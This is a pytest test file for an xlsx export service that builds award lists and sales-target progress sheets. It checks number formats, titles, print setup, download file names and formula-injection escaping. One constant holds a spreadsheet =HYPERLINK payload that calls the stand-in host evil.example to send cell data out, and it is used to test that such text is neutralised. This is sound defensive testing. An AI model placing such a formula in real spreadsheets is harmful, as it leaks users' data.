"""Spreadsheets read back with openpyxl: numbers are numbers with their formats, titles name the
campaign, each line says its state, the header is frozen and printed on every page, no text is
ever a formula; the registry facts (county, enterprises); download names and headers."""
from __future__ import annotations

import io
from decimal import Decimal
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from backend.awards_api import content_disposition
from configstore import places, registry
from configstore.db import make_engine, make_sessionmaker
from configstore.migrate import upgrade
from configstore.participants_import import import_participants
from services.spreadsheets import (
    Directory,
    DownloadName,
    award_list_filename,
    award_list_xlsx,
    file_safe,
    load_directory,
    safe_text,
    targets_filename,
    targets_xlsx,
)

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
DIRECTORY = Directory(campaigns={"qcqh-xxxb-2026": "千村千红·湘西香伴"}, county_names={"433101": "吉首市"},
                      host_counties={"H001": "433101", "H002": "433127", "H003": "433123"},
                      host_enterprises={"H001": ("E001", "E002")},
                      enterprise_names={"E001": "古丈茶业有限公司", "E002": "龙山百合"},
                      enterprise_counties={"E001": "433126"})


def review(step: str, decision: str = "approved", name: str = "通过") -> dict:
    return {"step": step, "decision": decision, "decision_name": name, "reviewer": "operator-user",
            "at": "2026-11-19T17:30:00+00:00"}


def line(position: int, pid: str, name: str, amount_fen: int, metric_fen: int, **changes) -> dict:
    return {"id": position, "position": position, "participant_id": pid, "name": name, "category": "十大电商达人",
            "amount_fen": amount_fen, "metric_fen": metric_fen, "detail": {}, "included": True, "adjusted": False,
            "adjustment_reason": None, "adjusted_by": None, "reviews": []} | changes


def host_list(**changes) -> dict:
    items = [line(1, "H001", "苗家阿妹", 57_095_400, 1_234_567_891, reviews=[review("county_prereview")]),
             line(2, "H002", EVIL, 1_000_000, 98_765_432, adjusted=True, adjustment_reason="+补录业绩"),
             line(3, "H003", "土家小哥", 500_000, 5_000_000, included=False, adjusted=True,
                  adjustment_reason="-刷单，移出")]
    data = {"id": 12, "kind": "top_influencers", "kind_name": "十大电商达人", "scope": "campaign",
            "scope_name": "活动", "scope_key": "qcqh-xxxb-2026", "version": 2, "state": "notice",
            "state_name": "公示中", "params": {"campaign_name": "旧名称", "ineligible": [
                {"participant_id": "H009", "name": "@外地主播", "reasons": ["注册地不在湘西州（区划代码430102）"]}]},
            "notice_start": "2026-11-20", "notice_end": "2026-11-26", "items": items,
            "total_fen": 58_095_400}
    return data | changes


def read(content: bytes):
    return load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("text", [EVIL, "+86 123", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_is_prefixed(text):
    assert safe_text(text) == "'" + text
    assert safe_text("苗家阿妹 = 达人") == "苗家阿妹 = 达人"
    assert safe_text("a\x01b\x0bc") == "abc"  # characters xlsx cannot hold


def test_award_list_cells_are_typed_titled_and_safe():
    wb = read(award_list_xlsx(host_list(), DIRECTORY))
    ws = wb["获奖名单"]
    assert ws["A1"].value == "“千村千红·湘西香伴”十大电商达人名单（第 2 版）"  # the registry's name, not the slug
    assert "qcqh" not in ws["A1"].value
    assert ws["A2"].value.startswith("名单状态：公示中") and "公示期：2026-11-20 至 2026-11-26" in ws["A2"].value
    headers = [c.value for c in ws[3]]
    assert headers == ["序号", "编号", "名称", "奖项类别", "县市", "所属企业", "奖励金额（元）", "净成交额（万元）",
                       "状态", "奖励台账与复核", "调整原因", "评审记录"]
    rows = list(ws.iter_rows(min_row=4, max_row=6))
    first = dict(zip(headers, rows[0], strict=True))
    assert first["县市"].value == "吉首市" and first["所属企业"].value == "古丈茶业有限公司、龙山百合"
    assert [r[5].value for r in rows[1:]] == [None, None]  # no links registered
    assert [r[4].value for r in rows[1:]] == ["永顺县", "凤凰县"]  # names of the Xiangxi counties by code
    for row in rows:
        for cell in (row[6], row[7]):
            assert cell.data_type == "n" and cell.number_format == "#,##0.00"
    assert (rows[0][6].value, rows[0][7].value) == (570954, pytest.approx(1234.567891))
    assert Decimal(str(rows[0][6].value)) == Decimal("570954.00")
    assert [r[8].value for r in rows] == ["入选", "入选（人工调整）", "已移出"]
    evil = rows[1][2]
    assert evil.data_type == "s" and evil.value == "'" + EVIL and not evil.value.startswith("=")
    assert [r[9].value for r in rows] == [None, None, None]  # a selection carries no ledger money
    assert rows[1][10].value == "'+补录业绩" and rows[2][10].value == "'-刷单，移出"
    assert rows[0][11].value == "县市区初审：通过（operator-user，2026-11-20 01:30）"  # Beijing time, to the minute
    total = ws.cell(row=7, column=7)
    assert total.data_type == "n" and total.value == 580954 and total.number_format == "#,##0.00"
    assert ws.cell(row=7, column=3).value == "合计：入选 2 个"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)

    assert ws.freeze_panes == "A4"
    assert ws.print_title_rows == "$3:$3"
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == int(ws.PAPERSIZE_A4)
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
    assert ws.page_setup.fitToHeight == 0
    assert ws.auto_filter.ref == "A3:L6"
    assert ws.column_dimensions["C"].width == 36  # the long name: as wide as a name column may be
    assert ws.column_dimensions["F"].width >= 2 * len("古丈茶业有限公司、龙山百合")

    other = wb["未入选及原因"]
    assert other["A1"].value == "“千村千红·湘西香伴”十大电商达人名单：未入选及原因"
    assert [c.value for c in other[4]] == ["H009", "'@外地主播", None, None, "注册地不在湘西州（区划代码430102）"]
    assert other.freeze_panes == "A4" and other.print_title_rows == "$3:$3"


def test_year_list_title_and_stored_campaign_name():
    year = host_list(scope="year", scope_key="2026", kind="top_enterprises", kind_name="十佳电商企业",
                     state="final", state_name="已定稿", notice_start=None, notice_end=None)
    ws = read(award_list_xlsx(year, DIRECTORY)).active
    assert ws["A1"].value == "2026 年度十佳电商企业名单（第 2 版）"
    assert ws["A2"].value.startswith("名单状态：已定稿")
    assert "所属企业" not in [c.value for c in ws[3]]
    unknown = host_list(scope_key="gone")
    assert read(award_list_xlsx(unknown, DIRECTORY)).active["A1"].value.startswith("“旧名称”")


def test_target_progress_numbers_percentages_and_print_setup():
    progress = {"year": 2026, "uncredited_fen": 12_345_600, "regions": [
        {"code": "433100", "name": "湘西土家族苗族自治州", "level": "city", "parent_code": None,
         "annual_target_fen": 100_000_000_000, "direct_sales_fen": 0, "actual_sales_fen": 46_000_000_000,
         "percent": "46.0", "label": "完成年度任务的 46.0%"},
        {"code": "433101", "name": "吉首市", "level": "county", "parent_code": "433100",
         "annual_target_fen": 12_000_000_000, "direct_sales_fen": 15_000_000_000, "actual_sales_fen": 15_000_000_000,
         "percent": "125.0", "label": "完成年度任务的 125.0%"},
        {"code": "433101001", "name": "乾州街道", "level": "township", "parent_code": "433101",
         "annual_target_fen": None, "direct_sales_fen": 0, "actual_sales_fen": 0, "percent": None, "label": None}]}
    ws = read(targets_xlsx(progress)).active
    assert ws["A1"].value == "2026 年度网络销售目标完成情况"
    assert [c.value for c in ws[3]] == ["区划代码", "区划名称", "层级", "所属县市", "上级区划", "年度目标（万元）",
                                        "直接计入（万元）", "实际完成（万元）", "完成率", "完成情况"]
    prefecture, county, township = (list(r) for r in ws.iter_rows(min_row=4, max_row=6))
    assert [c.value for c in county[:5]] == ["433101", "吉首市", "县市", "吉首市", "湘西土家族苗族自治州"]
    assert [c.value for c in township[:5]] == ["433101001", "乾州街道", "乡镇", "吉首市", "吉首市"]
    assert (county[5].value, county[7].value) == (12000, 15000)
    for cell in county[5:8]:
        assert cell.data_type == "n" and cell.number_format == "#,##0.00"
    assert county[8].data_type == "n" and county[8].value == 1.25 and county[8].number_format == "0.0%"
    assert prefecture[8].value == 0.46
    assert township[8].value is None and township[9].value == "未设目标"
    assert township[1].alignment.indent == 2
    assert ws.cell(row=7, column=8).value == pytest.approx(12.3456) and ws.cell(row=7, column=8).data_type == "n"
    assert ws.freeze_panes == "A4" and ws.print_title_rows == "$3:$3"
    assert ws.page_setup.orientation == "landscape" and ws.sheet_properties.pageSetUpPr.fitToPage


def test_file_names_and_content_disposition():
    name = award_list_filename(host_list(), DIRECTORY)
    assert name == DownloadName("千村千红·湘西香伴-十大电商达人名单-第2版-公示中.xlsx", "award-list-12-v2.xlsx")
    assert targets_filename(2026).name == "2026年度网络销售目标完成情况.xlsx"
    assert file_safe('a/b\\c:"d"?.xlsx') == "a_b_c__d__.xlsx"
    header = content_disposition(name)
    assert header.startswith('attachment; filename="award-list-12-v2.xlsx"; filename*=UTF-8\'\'')
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert encoded.isascii() and " " not in encoded and unquote(encoded) == name.name
    odd = content_disposition(DownloadName("证书.pdf", 'bad"name\\é.pdf'))
    assert odd.startswith('attachment; filename="bad_name__.pdf"; ')


@pytest.fixture
def sessions(tmp_path):
    url = f"sqlite:///{tmp_path / 'config.sqlite3'}"
    upgrade(url)
    return make_sessionmaker(make_engine(url))


def test_directory_from_the_registry(sessions):
    from datetime import date

    rows = [{"kind": "企业", "id": "E001", "name": "古丈茶业有限公司", "county": "433126"},
            {"kind": "企业", "id": "E002", "name": "龙山百合", "county": "433130"},
            {"kind": "主播", "id": "H001", "name": "苗家阿妹", "county": "433101", "enterprises": "E001;E002"}]
    assert import_participants(sessions, rows).bad_rows == 0
    registry.upsert_campaign(sessions, slug="qcqh-xxxb-2026", name="千村千红·湘西香伴", first_day=date(2026, 11, 1),
                             last_day=date(2026, 11, 30))
    places.add_region(sessions, code="433101001", name="乾州街道", parent_code="433101")
    places.add_region(sessions, code="433101001001", name="乾州村", parent_code="433101001")
    station = places.add_station(sessions, kind="village_point", region_code="433101001001", name="乾州村服务点")
    directory = load_directory(sessions)
    assert directory.campaign_name(host_list()) == "千村千红·湘西香伴"
    assert directory.county_of("top_influencers", "H001") == "吉首市"
    assert directory.enterprises_of("H001") == "古丈茶业有限公司、龙山百合"
    assert directory.county_of("top_enterprises", "E002") == "龙山县"
    assert directory.county_of("station_rating", str(station["id"])) == "吉首市"
